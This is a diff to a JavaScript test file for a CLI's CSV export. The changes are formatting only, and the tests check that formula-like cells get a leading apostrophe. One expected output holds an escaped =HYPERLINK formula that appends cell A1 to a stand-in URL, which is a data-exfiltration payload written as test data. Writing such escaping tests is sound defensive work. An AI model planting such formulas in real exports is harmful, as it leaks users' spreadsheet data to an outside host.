@@ -35,7 +35,7 @@ const EXPECTED_TRANSACTIONS = [
   '',
 ].join('\r\n');
 
-describe.each(MODES)('-o csv, for $mode: cells that would run as formulas get a \' in front, plain numbers do not', ({ tty }) => {
+describe.each(MODES)("-o csv, for $mode: cells that would run as formulas get a ' in front, plain numbers do not", ({ tty }) => {
   it('reports transactions', async () => {
     const service = new FakeService().expect('GET', `/v1/reports/${ID}/transactions`, { body: TRANSACTIONS });
     const result = await svc(['reports', 'transactions', ID, '-o', 'csv'], { tty, service });
@@ -44,7 +44,7 @@ describe.each(MODES)('-o csv, for $mode: cells that would run as formulas get a 
     expect(result.stderr).toBe('');
   });
 
-  it('reports get: the report\'s transactions', async () => {
+  it("reports get: the report's transactions", async () => {
     const service = new FakeService().expect('GET', `/v1/reports/${ID}`, { body: { report_id: ID, status: 'complete', ...TRANSACTIONS } });
     const result = await svc(['reports', 'get', ID, '-o', 'csv'], { tty, service });
     expect(result.code, result.stderr).toBe(0);
@@ -53,7 +53,13 @@ describe.each(MODES)('-o csv, for $mode: cells that would run as formulas get a 
   });
 
   it('enrich: the enriched transactions', async () => {
-    const reply = { count: 2, transactions: [{ date: '2026-03-25', description: HYPERLINK, debit: 100, balance: -100, category: '@risk' }, { date: '2026-03-26', description: 'ATM', debit: 5, balance: -105, category: 'cash' }] };
+    const reply = {
+      count: 2,
+      transactions: [
+        { date: '2026-03-25', description: HYPERLINK, debit: 100, balance: -100, category: '@risk' },
+        { date: '2026-03-26', description: 'ATM', debit: 5, balance: -105, category: 'cash' },
+      ],
+    };
     const service = new FakeService().expect('POST', '/v1/enrich', { body: reply });
     const stdin = 'date,description,credit,debit,balance\n2026-03-25,X,,100,-100\n2026-03-26,ATM,,5,-105\n';
     const result = await svc(['enrich', '--file', '-', '-o', 'csv'], { tty, stdin, service });
@@ -74,8 +80,7 @@ describe.each(MODES)('-o csv, for $mode: cells that would run as formulas get a 
     const result = await svc(['merchants', 'resolve', '9000000000000001', '-o', 'csv'], { tty, service });
     expect(result.code, result.stderr).toBe(0);
     expect(result.stdout).toBe(
-      'input,type,matched,terminal,merchant,mcc,category,city\r\n' +
-        `9000000000000001,terminal,true,9000000000000001,"'=HYPERLINK(""http://x.test/?""&A1,""Refund"")",5411,'+groceries,'-\r\n`,
+      'input,type,matched,terminal,merchant,mcc,category,city\r\n' + `9000000000000001,terminal,true,9000000000000001,"'=HYPERLINK(""http://x.test/?""&A1,""Refund"")",5411,'+groceries,'-\r\n`,
     );
   });
 });
